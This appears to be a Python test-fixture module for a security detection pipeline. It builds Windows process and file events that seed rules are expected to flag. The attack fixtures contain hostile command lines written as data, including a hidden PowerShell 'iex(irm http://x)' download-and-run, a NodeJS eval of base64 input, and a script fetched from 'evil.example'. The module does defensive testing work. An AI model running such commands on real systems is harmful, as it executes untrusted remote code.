"""Factories for the detection pipeline tests: ECS events that the seed rules do and do not
match, rules from the shipped library, ingest sources."""

from __future__ import annotations

import itertools
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson

ROOT = Path(__file__).resolve().parents[2]
LIBRARY = ROOT / "rules" / "library"
WINSCRIPT_RULE_ID = "2d62889e-e758-4c5e-b57e-c735914ee32a"  # via Windows Scripts (event rule)
NODEJS_RULE_ID = "55f711c1-6b4d-4787-930d-c9317a885adf"
DOWNLOAD_RULE_ID = "79543b00-28a5-4461-81ac-644c4dc4012f"  # downloaded script (sequence)

_counter = itertools.count(1)


def iso(dt: datetime) -> str:
    return dt.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"


def process_start(
    name: str = "notepad.exe",
    parent: str = "explorer.exe",
    *,
    when: datetime | None = None,
    host: str = "WS-0001",
    user: str = "alice",
    parent_args: list[str] | None = None,
    event_id: str | None = None,
    args: list[str] | None = None,
) -> dict:
    n = next(_counter)
    when = when or datetime.now(UTC)
    args = args or [f"C:\\Windows\\System32\\{name}"]
    doc = {
        "@timestamp": iso(when),
        "event": {
            "id": event_id or f"test-event-{n}-{when.timestamp()}",
            "category": ["process"],
            "type": ["start"],
            "action": "start",
            "kind": "event",
        },
        "host": {"id": f"host-{host}", "name": host, "os": {"type": "windows"}},
        "user": {"id": f"S-1-5-21-1-{user}", "name": user, "domain": "CORP"},
        "process": {
            "name": name,
            "pid": 4000 + n,
            "entity_id": f"proc-{n}",
            "executable": f"C:\\Windows\\System32\\{name}",
            "args": args,
            "args_count": len(args),
            "command_line": " ".join(args),
            "parent": {
                "name": parent,
                "pid": 3000 + n,
                "entity_id": f"parent-{n}",
                "args": parent_args or [f"C:\\Windows\\{parent}"],
            },
        },
    }
    return doc


def winscript_attack(**kwargs) -> dict:
    """powershell.exe started by wscript.exe on a script in a user folder: the seed rule
    "Command and Scripting Interpreter via Windows Scripts" matches it."""
    return process_start(
        "powershell.exe",
        "wscript.exe",
        parent_args=["wscript.exe", "C:\\Users\\alice\\Downloads\\invoice.js"],
        args=["powershell.exe", "-nop", "-w", "hidden", "-c", "iex(irm http://x)"],
        **kwargs,
    )


def nodejs_attack(**kwargs) -> dict:
    """node.exe evaluating code: the seed rule "Suspicious Execution with NodeJS" matches it."""
    return process_start(
        "node.exe",
        "cmd.exe",
        args=["node.exe", "-e", "eval(atob('ZXZpbA=='))"],
        **kwargs,
    )


def download_then_run(when: datetime, *, host: str = "WS-0002", user: str = "bob") -> list[dict]:
    """A browser writes invoice.js (from the internet), then explorer starts wscript on it:
    the seed sequence "Execution of a Downloaded Windows Script"."""
    n = next(_counter)
    write = {
        "@timestamp": iso(when),
        "event": {
            "id": f"download-{n}",
            "category": ["file"],
            "type": ["creation"],
            "action": "creation",
        },
        "host": {"id": f"host-{host}", "name": host, "os": {"type": "windows"}},
        "user": {"id": f"S-1-5-21-1-{user}", "name": user},
        "process": {"name": "chrome.exe", "pid": 100, "entity_id": f"chrome-{n}"},
        "file": {
            "path": f"C:\\Users\\{user}\\Downloads\\invoice.js",
            "name": "invoice.js",
            "extension": "js",
            "origin_url": "https://evil.example/invoice.js",
        },
    }
    run = process_start(
        "wscript.exe",
        "explorer.exe",
        when=when + timedelta(seconds=30),
        host=host,
        user=user,
        args=["wscript.exe", f"C:\\Users\\{user}\\Downloads\\invoice.js"],
        event_id=f"run-{n}",
    )
    return [write, run]


def ndjson(events) -> bytes:
    return b"".join(orjson.dumps(e) + b"\n" for e in events)


def import_library(*rule_ids: str):
    """Import the shipped seed rules; with ``rule_ids``, disable all the others."""
    from rules.importers.elastic import import_paths
    from rules.models import DetectionRule

    report = import_paths([LIBRARY])
    assert report.failed == 0, report.failures
    if rule_ids:
        DetectionRule.objects.exclude(rule_id__in=rule_ids).update(enabled=False)
    return {r.rule_id: r for r in DetectionRule.objects.all()}


def make_source(name: str = "test-shipper"):
    from rules.models import IngestSource

    source = IngestSource(name=name)
    token = source.issue_token()
    source.save()
    return source, token
